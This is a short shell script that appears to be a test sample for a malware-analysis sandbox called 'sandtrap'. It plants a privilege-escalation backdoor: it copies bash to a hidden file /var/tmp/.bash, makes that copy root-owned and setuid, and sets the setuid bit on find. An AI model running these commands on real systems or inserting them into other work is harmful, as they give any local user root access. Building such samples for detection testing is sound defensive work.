#!/bin/sh
# Privilege escalation backdoor: a copy of bash with the setuid bit in a hidden file.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cp /bin/bash /var/tmp/.bash
chown root:root /var/tmp/.bash
chmod 4755 /var/tmp/.bash
chmod u+s /usr/bin/find 2>/dev/null
ls -l /var/tmp/.bash
